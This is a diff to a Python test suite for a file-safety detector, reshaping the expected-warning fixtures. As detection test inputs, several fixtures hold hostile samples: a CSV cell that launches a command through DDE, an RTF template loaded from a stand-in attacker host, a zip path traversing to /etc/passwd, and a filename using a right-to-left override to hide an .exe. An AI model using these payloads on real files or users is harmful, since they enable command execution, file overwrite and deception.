@@ -90,114 +90,48 @@ def test_kind_goes_by_the_bytes_and_that_of_a_zip_by_what_it_lists():
         assert detect_file(named(*names), name="x", content_type="").kind == kind
 
 
-# Content, name and declared type, and a part of what is said of them.
+# Content, name, a part of what is said of them, and the declared type.
 EXPECTED = [
-    (
-        b"MZ\x90",
-        "report.pdf",
-        "",
-        "high: Its name says .pdf, its content is a Windows program.",
-    ),
-    (b"MZ\x90", "report", "", "high: Its content is a Windows program."),
-    (
-        PDF,
-        "file.bin",
-        "image/png",
-        "high: Its type says image/png, its content is a PDF.",
-    ),
-    (
-        named("AndroidManifest.xml"),
-        "game.zip",
-        "",
-        "its content is an Android program.",
-    ),
-    (
-        PDF,
-        "report.pdf.exe",
-        "application/pdf",
-        "high: Be careful: named like a .pdf, but a .exe.",
-    ),
-    (
-        PDF,
-        "invoice_\u202efdp.exe",
-        "",
-        "its name is reversed to look like another type; it ends in .exe",
-    ),
-    (
-        PDF,
-        "in\u200bvoice.pdf",
-        "",
-        "high: Its name contains invisible characters: zero width space.",
-    ),
-    (PDF + b"/Java#53cript", "a.pdf", "", "high: It contains JavaScript"),
-    (PDF + b"/Launch", "a.pdf", "", "high: It can start a program."),
-    (PDF + b"/Encrypt", "a.pdf", "", "notice: It is encrypted or protected"),
-    (OLE + "_VBA_PROJECT".encode("utf-16-le"), "a.doc", "", "high: It contains macros"),
-    (
-        named("[Content_Types].xml", "word/vbaProject.bin"),
-        "a.docx",
-        "",
-        "high: It contains macros",
-    ),
-    (
-        zipped(**{"[Content_Types].xml": MACRO_TYPES, "word/part1.bin": b"x"}),
-        "a.doc",
-        "",
-        "high: It contains macros",
-    ),
-    (
-        zipped(**{"[Content_Types].xml": b" " * 2_000_000, "word/document.xml": b"x"}),
-        "a.docx",
-        "",
-        "high: Its list of files is broken",
-    ),
-    (OLE + MSI_CLASS, "invoice.doc", "", "high: It installs a program."),
-    (b"{\\rtf1 \\objdata 0105", "a.rtf", "", "high: It contains an embedded object"),
-    (named("run me.js"), "a.zip", "", "high: It contains “run me.js”: .js files run."),
-    (
-        zipped(**{"invoice.txt": b"MZ" + b"x" * 60}),
-        "a.zip",
-        "",
-        "high: It contains “invoice.txt”, which is a Windows program.",
-    ),
-    (
-        zipped(**{"invoice.txt": b"PK\x03\x04"}),
-        "a.zip",
-        "",
-        "notice: The content of an archive or message in it cannot be listed.",
-    ),
-    (named("../../etc/passwd"), "a.zip", "", "high: It would write outside its folder"),
-    (b"PK\x03\x04 cut off", "a.zip", "", "high: Its list of files is broken"),
-    (b"7z\xbc\xaf\x27\x1c", "a.7z", "", "notice: Its content cannot be listed here."),
-    (b"a,b\n=HYPERLINK(1),2", "a.csv", "", "notice: Some cells start like formulas"),
-    (b"a,b\n-2+3+cmd|' /C calc'!A0,2", "a.csv", "", "Some cells start like formulas"),
-    ("a,b\n=1+1,2".encode("utf-16"), "a.csv", "", "Some cells start like formulas"),
-    (LOCKED, "a.docx", "", "high: It is encrypted with a password"),
-    (PDF + b"/S /SubmitForm", "a.pdf", "", "high: It can send what is written into"),
-    (PDF + b"/S /GoToR", "a.pdf", "", "notice: It can open another file"),
-    (PDF + b"/RichMedia", "a.pdf", "", "notice: It contains sound, film"),
-    (
-        b"{\\rtf1{\\*\\template http://evil.example/x}",
-        "a.rtf",
-        "",
-        "high: It loads a template from another address",
-    ),
-    (b"{\\rt1\\objdata 0105", "a.doc", "", "high: It contains an embedded object"),
-    (
-        named("[Content_Types].xml", "word/embeddings/oleObject1.bin"),
-        "a.docx",
-        "",
-        "notice: It contains other files.",
-    ),
-    (
-        named("[Content_Types].xml", "xl/activeX/activeX1.bin", "xl/workbook.xml"),
-        "a.xlsx",
-        "",
-        "high: It contains controls, which can run.",
-    ),
-    (b"-----BEGIN RSA PRIVATE KEY-----\n", "id.pem", "", "high: It is a private key"),
-    (b"<svg/>", "a.svg", "image/svg+xml", "notice: It opens in the browser"),
-]
+    (b"MZ\x90", "report.pdf", "high: Its name says .pdf, its content is a Windows program."),
+    (b"MZ\x90", "report", "high: Its content is a Windows program."),
+    (PDF, "file.bin", "high: Its type says image/png, its content is a PDF.", "image/png"),
+    (named("AndroidManifest.xml"), "game.zip", "its content is an Android program."),
+    (PDF, "report.pdf.exe", "high: Be careful: named like a .pdf, but a .exe.", "application/pdf"),
+    (PDF, "invoice_\u202efdp.exe", "its name is reversed to look like another type; it ends in .exe"),
+    (PDF, "in\u200bvoice.pdf", "high: Its name contains invisible characters: zero width space."),
+    (PDF + b"/Java#53cript", "a.pdf", "high: It contains JavaScript"),
+    (PDF + b"/Launch", "a.pdf", "high: It can start a program."),
+    (PDF + b"/Encrypt", "a.pdf", "notice: It is encrypted or protected"),
+    (PDF + b"/S /SubmitForm", "a.pdf", "high: It can send what is written into"),
+    (PDF + b"/S /GoToR", "a.pdf", "notice: It can open another file"),
+    (PDF + b"/RichMedia", "a.pdf", "notice: It contains sound, film"),
+    (OLE + "_VBA_PROJECT".encode("utf-16-le"), "a.doc", "high: It contains macros"),
+    (named("[Content_Types].xml", "word/vbaProject.bin"), "a.docx", "high: It contains macros"),
+    (zipped(**{"[Content_Types].xml": MACRO_TYPES, "word/part1.bin": b"x"}), "a.doc", "high: It contains macros"),
+    (zipped(**{"[Content_Types].xml": b" " * 2_000_000, "word/document.xml": b"x"}), "a.docx",
+     "high: Its list of files is broken"),
+    (OLE + MSI_CLASS, "invoice.doc", "high: It installs a program."),
+    (b"{\\rtf1 \\objdata 0105", "a.rtf", "high: It contains an embedded object"),
+    (b"{\\rt1\\objdata 0105", "a.doc", "high: It contains an embedded object"),
+    (b"{\\rtf1{\\*\\template http://evil.example/x}", "a.rtf", "high: It loads a template from another address"),
+    (named("run me.js"), "a.zip", "high: It contains “run me.js”: .js files run."),
+    (zipped(**{"invoice.txt": b"MZ" + b"x" * 60}), "a.zip",
+     "high: It contains “invoice.txt”, which is a Windows program."),
+    (zipped(**{"invoice.txt": b"PK\x03\x04"}), "a.zip",
+     "notice: The content of an archive or message in it cannot be listed."),
+    (named("../../etc/passwd"), "a.zip", "high: It would write outside its folder"),
+    (b"PK\x03\x04 cut off", "a.zip", "high: Its list of files is broken"),
+    (b"7z\xbc\xaf\x27\x1c", "a.7z", "notice: Its content cannot be listed here."),
+    (b"a,b\n=HYPERLINK(1),2", "a.csv", "notice: Some cells start like formulas"),
+    (b"a,b\n-2+3+cmd|' /C calc'!A0,2", "a.csv", "Some cells start like formulas"),
+    ("a,b\n=1+1,2".encode("utf-16"), "a.csv", "Some cells start like formulas"),
+    (LOCKED, "a.docx", "high: It is encrypted with a password"),
+    (named("[Content_Types].xml", "word/embeddings/oleObject1.bin"), "a.docx", "notice: It contains other files."),
+    (named("[Content_Types].xml", "xl/activeX/activeX1.bin", "xl/workbook.xml"), "a.xlsx",
+     "high: It contains controls, which can run."),
+    (b"-----BEGIN RSA PRIVATE KEY-----\n", "id.pem", "high: It is a private key"),
+    (b"<svg/>", "a.svg", "notice: It opens in the browser", "image/svg+xml"),
+]  # fmt: skip
 AGREES = [
     (PNG, "logo.PNG", "image/png; charset=binary"),
     (PDF, "invoice.pdf", "application/octet-stream"),
@@ -214,8 +148,8 @@ AGREES = [
 
 
 def test_contradicting_or_active_files_are_named_and_consistent_ones_are_not():
-    for content, name, content_type, sentence in EXPECTED:
-        assert sentence in sentences(content, name, content_type), (name, sentence)
+    for content, name, sentence, *content_type in EXPECTED:
+        assert sentence in sentences(content, name, *content_type), (name, sentence)
     for content, name, content_type in AGREES:
         assert sentences(content, name, content_type) == "", name
 
@@ -406,9 +340,8 @@ UNCERTAIN = {
 }
 
 
-@pytest.mark.parametrize("content", UNCERTAIN.values(), ids=UNCERTAIN)
-def test_archive_in_which_programs_may_find_other_files_hides_them(content):
-    assert hides(content)
+def test_archive_in_which_programs_may_find_other_files_hides_them():
+    assert [name for name, content in UNCERTAIN.items() if not hides(content)] == []
 
 
 def tar_without_magic():
